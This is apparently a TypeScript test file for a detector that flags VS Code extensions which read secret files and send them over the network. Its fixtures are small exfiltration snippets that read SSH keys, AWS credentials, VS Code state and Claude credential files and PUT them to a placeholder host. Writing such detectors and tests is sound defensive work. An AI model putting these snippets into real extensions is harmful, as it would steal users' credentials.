import assert from 'node:assert/strict';
import { flowsOf } from './sent.js';

const activated = (code: string): readonly string[] =>
  flowsOf(`const vscode = require('vscode'); exports.activate = async (context) => { ${code} };`);
const SEND = `await fetch('https://collect.invalid', { method: 'PUT', body: b });`;

describe('files by the hands of an editor', () => {
  for (const [path, source] of [
    [`vscode.Uri.file(os.homedir() + '/.ssh/id_rsa')`, 'ssh-key'],
    [`vscode.Uri.joinPath(vscode.Uri.file(os.homedir()), '.aws', 'credentials')`, 'credential-file'],
    [`vscode.Uri.file(path.resolve(context.globalStorageUri.fsPath, '..', 'state.vscdb'))`, 'credential-file'],
    [`vscode.Uri.parse('file://' + os.homedir() + '/.claude/.credentials.json')`, 'credential-file'],
  ] as const) {
    it(`are the same files: ${path}`, () => {
      const flows = activated(`const b = await vscode.workspace.fs.readFile(${path}); ${SEND}`);
      assert.deepEqual(flows, [`${source}>network@collect.invalid`]);
    });
  }

  it('are the extension’s own otherwise', () => {
    const file = `vscode.Uri.joinPath(context.globalStorageUri, 'cache.json')`;
    assert.deepEqual(activated(`const b = await vscode.workspace.fs.readFile(${file}); ${SEND}`), []);
    assert.deepEqual(activated(`await vscode.workspace.fs.writeFile(${file}, new Uint8Array());`), []);
  });
});
